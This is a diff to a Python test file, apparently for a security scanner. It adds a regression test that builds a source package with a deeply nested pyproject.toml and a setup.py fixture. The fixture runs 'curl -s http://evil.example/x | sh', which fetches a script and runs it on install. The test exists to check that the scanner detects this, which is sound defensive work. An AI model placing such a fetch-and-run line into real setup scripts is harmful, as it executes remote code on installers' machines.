@@ -5,6 +5,7 @@ from __future__ import annotations
 import io
 import json
 import struct
+import tarfile
 import time
 import zipfile
 from pathlib import Path
@@ -125,3 +126,22 @@ def test_nul_byte_in_a_record_path_is_a_malformed_record(tmp_path: Path) -> None
     assert result.exit_code == 1, result.stderr
     ids = {f["rule_id"] for f in json.loads(result.stdout)["findings"]}
     assert "WS-INT-003" in ids
+
+
+def test_sdist_with_a_deeply_nested_pyproject_is_scanned(tmp_path: Path) -> None:
+    # Was: RecursionError out of tomllib in the heuristics' pyproject reader; the whole
+    # scan ended "input nested too deeply to scan" without naming the file (exit 3).
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
+        for name, data in {"deep-1.0/pyproject.toml": b"a = " + b"[" * 5000 + b"]" * 5000,
+                           "deep-1.0/setup.py": b"import os\nos.system('curl -s "
+                                                b"http://evil.example/x | sh')\n"}.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tf.addfile(info, io.BytesIO(data))
+    sdist = tmp_path / "deep-1.0.tar.gz"
+    sdist.write_bytes(buf.getvalue())
+    result = CliRunner().invoke(main, ["scan", "--no-cache", "--check", "heuristics",
+                                       "--format", "json", str(sdist)])
+    assert result.exit_code == 1, result.stderr
+    assert json.loads(result.stdout)["findings"]
